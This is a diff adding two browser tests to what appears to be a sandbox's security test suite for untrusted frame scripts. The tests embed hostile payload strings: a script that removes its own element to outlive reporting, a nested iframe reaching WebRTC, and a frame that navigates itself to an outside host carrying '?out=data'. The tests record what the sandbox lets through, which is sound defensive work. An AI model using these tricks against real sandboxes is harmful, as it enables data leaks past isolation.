@@ -231,6 +231,33 @@ test('starts no workers, and leaves nothing in the history', async ({ open, site
   expect(await secretsOf(page)).toEqual(INTACT);
 });
 
+// Without its element, the end of the script is not reported, so its frame exists longer.
+const STAY = 'document.currentScript.remove();';
+
+test('the frame has no WebRTC, but a frame in the frame has', async ({ open, site }) => {
+  const page = await open();
+  const inner = answering(site, () => `parent.postMessage(typeof RTCPeerConnection, '*')`);
+  const path = answering(
+    site,
+    (callback) => `${STAY}
+      onmessage = function (event) { ${callback}([typeof RTCPeerConnection, typeof webkitRTCPeerConnection, event.data]) };
+      var frame = document.createElement('iframe');
+      frame.srcdoc = '<script src="${site.stranger(inner)}"></' + 'script>';
+      document.documentElement.appendChild(frame);`,
+  );
+  expect((await ask(page, site.stranger(path))).values).toEqual([['undefined', 'undefined', 'function']]);
+});
+
+test('a frame that navigates itself sends a request anywhere', async ({ open, site }) => {
+  const page = await open();
+  const path = answering(site, () => `${STAY} location = '${site.elsewhere('/page?out=data')}'`);
+  const outcome = ask(page, site.stranger(path), { timeout: 2_000 });
+  await expect.poll(() => site.elsewhereSeen.map(({ query }) => query.get('out'))).toEqual(['data']);
+  expect(site.elsewhereSeen[0]?.headers).not.toHaveProperty('referer');
+  expect(['timeout', 'no-callback']).toContain((await outcome).code);
+  expect(await secretsOf(page)).toEqual(INTACT);
+});
+
 test('cannot flood the page with messages', async ({ open, site }) => {
   const page = await open();
   const flood = (callback: string): string => `
